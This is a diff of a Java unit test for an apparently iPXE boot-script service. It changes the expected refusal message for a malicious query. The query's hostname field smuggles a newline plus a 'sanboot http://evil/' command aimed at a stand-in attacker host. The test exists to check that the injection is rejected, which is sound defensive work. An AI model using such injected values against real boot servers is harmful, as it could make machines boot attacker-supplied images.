@@ -108,8 +108,7 @@ class ScriptMakerTest {
         ScriptMaker maker = maker(new BootAction.Template("a.ipxe", Map.of()));
 
         assertThat(open(maker, "/a.ipxe", "hostname=x%0asanboot%20http://evil/"))
-                .isEqualTo(
-                        new FileLookup.Refused("the query's hostname is not what its name says"));
+                .isEqualTo(new FileLookup.Refused("the query's hostname is no host name"));
     }
 
     @Test
